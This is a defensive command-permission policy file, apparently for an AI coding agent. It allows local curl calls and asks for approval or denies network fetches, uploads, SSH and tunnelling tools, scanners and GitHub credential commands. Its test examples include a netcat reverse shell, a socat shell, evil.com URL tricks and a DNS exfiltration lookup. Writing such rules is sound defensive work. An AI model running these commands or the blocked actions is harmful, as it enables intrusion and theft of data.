# The network. Local servers flow; what fetches from elsewhere or sends asks.

locals {
  # Addresses of this machine. The part after the port can't hold another host: a / ends it.
  here = [
    "{,http://,https://,ws://}{localhost,127.0.0.1,0.0.0.0}{,/*,\\?*}",
    "{,http://,https://,ws://}{localhost,127.0.0.1,0.0.0.0}:{80,[0-9][0-9][0-9][0-9]}{,/*}",
    "{,http://,https://,ws://}{localhost,127.0.0.1,0.0.0.0}:[0-9][0-9][0-9][0-9][0-9]{,/*}",
  ]
}

rule "local servers" {
  commands     = ["curl", "wget", "http", "xh"]
  operands_all = local.here
  action       = "allow"
  unless {
    flags_any = ["-K", "--config", "-x", "--proxy", "--proxy1.0", "--socks*", "--preproxy", "--expand-*", "--variable", "--output-dir", "-J", "--location-trusted", "--follow", "-F", "-H=@*", "--span-hosts", "--resolve", "--connect-to", "--unix-socket", "--abstract-unix-socket", "-L", "--location", "-e=*@*", "--next", "-i=?*", "--input-file", "--use-askpass", "--execute", "--doh-url", "--dns-servers", "--interface", "-b=@*", "--url", "--url-query=@*", "--url-query=+@*"]
  }
  match     = ["curl http://localhost:3000/health", "curl -s localhost:8080", "curl 'http://127.0.0.1:5173/api/x?y=1'"]
  not_match = ["curl https://example.com", "curl http://localhost.evil.com/", "curl http://localhost:80@evil.com/", "curl http://localhost/ http://evil.com"]
}

rule "fetch from elsewhere" {
  commands = ["curl", "wget", "http", "https", "xh", "aria2c", "lynx", "w3m", "elinks", "httpie", "axel", "ftp", "lftp", "tftp"]
  action   = "ask"
  reason   = "Goes to the network. Name the address to a person, or use what the project already has."
  unless {
    operands_all = local.here
  }
  unless { args = ["{--version,-V,--help}"] }
  match     = ["curl https://example.com", "wget http://x/y"]
  not_match = ["curl localhost:3000"]
}

rule "send files" {
  commands = ["curl", "wget"]
  when {
    flags_any = ["-T", "--upload-file", "--post-file", "--body-file", "-d=@*", "--data=@*", "--data-binary=@*", "--data-urlencode=*@*", "--data-raw=@*", "-F=*=@*", "--form=*=@*", "-F=*=<*", "--json=@*"]
  }
  unless {
    operands_all = local.here
  }
  action    = "deny"
  reason    = "Sends a file to the network. Say what should be sent and where, and a person will do it."
  match     = ["curl -T a https://host/", "wget --post-file=a http://host"]
  not_match = ["curl https://host", "curl -d a=b https://host"]
}

rule "other machines" {
  commands = ["ssh", "scp", "sftp", "rsync", "rclone", "ssh-copy-id", "sshpass", "mosh", "telnet", "autossh", "sshfs", "croc", "wormhole", "magic-wormhole", "ngrok", "cloudflared", "localtunnel", "frpc", "chisel", "tailscale", "wg", "openvpn"]
  unless { args = ["{--version,-V,--help,version}"] }
  unless { # git's own connection, in a session
    ways       = ["guard"]
    parent     = ["git"]
    operands   = ["*", "git-{upload,receive}-pack '*'"]
    flags_only = ["-o=SendEnv=GIT_PROTOCOL", "-p", "-4", "-6"]
  }
  action = "ask"
  reason = "Reaches another machine, or opens this one to others. Say what you need from there."
  match  = ["ssh host uptime", "scp a host:b"]
}

rule "raw sockets" {
  commands = ["nc", "ncat", "netcat", "nc.*", "socat", "cryptcat", "nmap", "masscan", "tcpdump", "tshark", "hping3", "arp", "arping", "dnscat", "iodine", "msfconsole", "msfvenom", "hydra", "john", "hashcat", "sqlmap", "bettercap", "ettercap", "responder", "proxychains"]
  action   = "deny"
  reason   = "Raw connections and scans aren't needed to build software. Use curl against a local server, or say what you want to test."
  unless { args = ["-z*", "{localhost,127.0.0.1}", "[0-9]*"] }
  match     = ["nc -e /bin/sh host 4444", "socat TCP:host:1 EXEC:sh", "nmap 10.0.0.0/8"]
  not_match = ["nc -zv localhost 5432"]
}

rule "names" {
  commands = ["dig", "nslookup", "ping", "traceroute", "tracepath", "mtr", "whois"]
  action   = "ask"
  reason   = "Goes to the network, and a name can carry data out."
  match    = ["dig example.com", "nslookup data.evil.com"]
}

rule "github, read" {
  commands = ["gh"]
  args     = ["{pr,issue,run,workflow,repo,release,auth,label,gist,cache,search,ruleset}", "{view,list,diff,status,checks,watch,issues,prs,code,commits,repos}", "**"]
  action   = "allow"
  unless { flags_any = ["--show-token", "--web", "-w"] }
  match     = ["gh pr view 12", "gh pr list --state open", "gh run view 1 --log-failed", "gh issue list"]
  not_match = ["gh pr create", "gh auth token", "gh repo delete x", "gh auth status --show-token"]
}

rule "github, tokens" {
  commands  = ["gh", "glab"]
  args      = ["{auth,secret,ssh-key,gpg-key,extension,alias,config,variable,repo}", "{token,login,logout,refresh,setup-git,switch,set,add,delete,remove,install,import,exec,upgrade}", "**"]
  action    = "deny"
  reason    = "Touches credentials, or what gh runs. A person does that."
  match     = ["gh auth token", "gh secret set X", "gh repo delete a/b --yes", "gh ssh-key add k", "gh alias set x '!id'"]
  not_match = ["gh pr list", "gh auth status"]
}
